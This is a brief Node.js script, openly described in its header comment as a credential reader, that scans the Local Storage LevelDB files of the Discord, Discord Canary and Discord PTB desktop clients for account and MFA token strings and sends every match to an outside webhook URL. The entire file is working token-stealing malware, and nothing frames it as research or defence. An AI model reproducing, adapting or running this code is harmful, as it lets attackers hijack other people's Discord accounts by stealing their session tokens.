// Reads credentials: Discord's desktop client keeps the account token in its
// Local Storage LevelDB files; this walks them, pulls out anything shaped like
// a token and sends it to a webhook.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const apps = ['discord', 'discordcanary', 'discordptb'];
const tokens = new Set();
for (const app of apps) {
  const db = path.join(os.homedir(), '.config', app, 'Local Storage', 'leveldb');
  let names = [];
  try { names = fs.readdirSync(db); } catch { continue; }
  for (const n of names.filter((x) => x.endsWith('.ldb') || x.endsWith('.log'))) {
    const raw = fs.readFileSync(path.join(db, n), 'latin1');
    for (const t of raw.match(/[\w-]{24,26}\.[\w-]{6}\.[\w-]{27,38}|mfa\.[\w-]{84}/g) || []) tokens.add(t);
  }
}
fetch('https://hooks.example-chat.net/api/webhooks/1/abc', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ content: [...tokens].join('\n') }),
});
